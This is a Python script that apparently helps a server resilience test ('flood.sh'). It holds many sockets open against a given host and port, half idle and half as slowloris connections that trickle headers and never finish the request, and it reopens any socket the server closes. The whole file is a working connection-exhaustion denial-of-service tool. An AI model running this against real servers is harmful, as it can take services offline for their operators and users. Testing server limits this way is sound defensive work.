#!/usr/bin/env python3
"""Holds COUNT sockets open against HOST:PORT for flood.sh: every other one sits idle, the rest
are slowloris heads (a request line, then one header line every 5 s, never the end). A socket
the server closes is opened again at once, as an attacker would. Writes "held" to stdout once
every socket has been opened, then runs until killed."""

import asyncio
import resource
import sys


async def slot(host, port, slow, opened):
    first = True
    while True:
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            await asyncio.sleep(0.05)  # backlog full: try again shortly
            continue
        if first:
            opened.release()
            first = False
        try:
            if slow:
                writer.write(b"GET /healthz HTTP/1.1\r\nHost: example.com\r\n")
                while True:
                    await writer.drain()
                    try:
                        if not await asyncio.wait_for(reader.read(4096), 5):
                            break  # closed by the server
                    except asyncio.TimeoutError:
                        writer.write(b"X-Slow: 1\r\n")
            else:
                while await reader.read(4096):
                    pass
        except OSError:
            pass
        writer.close()


async def main():
    host, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    opened = asyncio.Semaphore(0)
    tasks = [asyncio.create_task(slot(host, port, n % 2 == 1, opened)) for n in range(count)]
    for _ in range(count):
        await opened.acquire()
    print("held", flush=True)
    await asyncio.gather(*tasks)


asyncio.run(main())
